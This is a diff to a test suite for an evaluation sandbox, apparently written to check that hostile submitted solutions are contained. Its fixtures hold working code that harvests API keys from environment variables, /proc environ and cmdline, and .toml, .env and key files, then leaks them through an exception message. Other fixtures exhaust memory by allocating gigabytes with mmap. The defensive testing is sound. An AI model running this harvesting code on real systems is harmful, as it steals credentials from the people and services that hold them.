@@ -555,6 +555,8 @@ def test_eval_solution_reads_environ_and_cmdline_of_every_process_and_raises_the
     keys.write_text(f'OPENAI_API_KEY = "{canary}"\n')
     solution = tmp_path / "exfil.py"
     solution.write_text(PRELUDE + textwrap.dedent(f'''
+        import re
+
         def algorithm(train_samples, train_parity, test_samples):
             loot = repr(dict(os.environ)).encode()
             for pid in ['self', '1', str(os.getppid())] + [str(p) for p in pids()]:
@@ -563,7 +565,10 @@ def test_eval_solution_reads_environ_and_cmdline_of_every_process_and_raises_the
                     if arg.endswith(b'.toml') or b'keys' in arg:
                         loot += slurp(arg.decode(errors='replace'))
             loot += slurp({str(keys)!r})
-            raise RuntimeError(loot.hex()[:20000])
+            for dirpath, _, filenames in os.walk('/tmp'):
+                loot += b''.join(slurp(os.path.join(dirpath, f), 1 << 12) for f in filenames if f.endswith('.toml'))
+            keys = sorted(set(re.findall(rb'sk-[A-Za-z0-9_-]{{20,}}', loot)))
+            raise RuntimeError(b' '.join(keys).hex()[:20000])
         '''))
     result = stop_tui("eval", "--task", "lpn", "--solution", str(solution), "--split", "val", "--json",
                       env={"STOPRT_API_KEY": canary, "OPENAI_API_KEY": canary, "STOPRT_KEYS_FILE": str(keys)})
@@ -900,11 +905,9 @@ async def test_memory_eight_children_together_exceed_a_two_gib_total(hostile_poo
                 held_here = []
                 for _ in range(8):  # 512 MiB each in 64 MiB pieces: no single mmap hits a per-process limit
                     try:
-                        m = mmap.mmap(-1, 64 << 20)
+                        m = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
                     except OSError:
                         break
-                    for off in range(0, 64 << 20, 4096):
-                        m[off] = 1
                     held_here.append(m)
                     os.write(w, b'1')
                 time.sleep(6)
@@ -951,11 +954,9 @@ async def test_memory_raise_own_rlimit_then_allocate_three_gib(hostile_pool):
     pieces = []
     for _ in range(48):  # 3 GiB in 64 MiB pieces
         try:
-            m = mmap.mmap(-1, 64 << 20)
+            m = mmap.mmap(-1, 64 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
         except OSError:
             break
-        for off in range(0, 64 << 20, 4096):
-            m[off] = 1
         pieces.append(m)
     return {'raised': raised, 'allocated': len(pieces) * (64 << 20)}
     """
@@ -1399,7 +1400,14 @@ EXFIL_IMPROVER = PRELUDE + '''
 import glob, time
 
 def _keys():
-    found = repr(dict(os.environ)).encode()
+    """Every key-shaped string in reach, with where it was found."""
+    import re
+    keys = {}
+    def grep(where, data):
+        for m in re.finditer(rb'sk-[A-Za-z0-9_-]{20,}', data):
+            keys.setdefault(m.group(0), where)
+    grep('os.environ', repr(dict(os.environ)).encode())
+    found = b''
     for pid in ['self', '1', str(os.getppid())] + [str(p) for p in pids()]:
         cmdline = slurp(f'/proc/{pid}/cmdline')
         found += slurp(f'/proc/{pid}/environ') + cmdline
@@ -1414,10 +1422,9 @@ def _keys():
                 break
             for name in filenames:
                 if name.endswith(('.toml', '.env')) or 'key' in name:
-                    data = slurp(os.path.join(dirpath, name), 1 << 14)
-                    if b'sk-' in data:
-                        found += data
-    return found
+                    grep(os.path.join(dirpath, name), slurp(os.path.join(dirpath, name), 1 << 14))
+    grep('/proc', found)
+    return b' '.join(k + b'@' + w.encode() for k, w in keys.items())
 
 def _scorer():
     found = b''
